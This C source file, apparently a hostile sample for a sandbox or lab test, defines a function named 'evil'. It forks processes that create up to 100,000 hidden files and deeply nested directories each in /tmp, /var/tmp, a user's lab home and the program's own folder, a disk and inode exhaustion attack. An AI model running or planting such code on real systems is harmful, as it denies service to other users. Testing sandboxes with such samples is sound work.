/* Makes as many files as there may be, half of them deep down. */
#include <libgen.h>
#include <sys/wait.h>

/* The folder of the program itself. */
static const char *beside_the_program(void)
{
	static char path[512];
	ssize_t n = readlink("/proc/self/exe", path, sizeof path - 1);
	return n > 0 ? dirname(path) : ".";
}

static void make(const char *dir)
{
	char name[64];
	if (chdir(dir) != 0)
		_exit(0);
	int here = open(".", O_RDONLY | O_DIRECTORY);
	for (int i = 0; i < 100000; i++) {
		snprintf(name, sizeof name, ".many-%d", i);
		int fd = openat(here, name, O_WRONLY | O_CREAT, 0600);
		if (fd < 0)
			break;
		close(fd);
		if (i % 2 == 0 && (mkdir("d", 0700) != 0 || chdir("d") != 0))
			break;
	}
	_exit(0);
}

static void evil(const char *path)
{
	static const char *const dirs[] = { "/tmp", "/var/tmp", "/lab/alice" };
	(void)path;
	for (size_t i = 0; i < sizeof dirs / sizeof *dirs; i++)
		if (fork() == 0)
			make(dirs[i]);
	if (fork() == 0)
		make(beside_the_program());
	while (wait(NULL) > 0)
		;
}
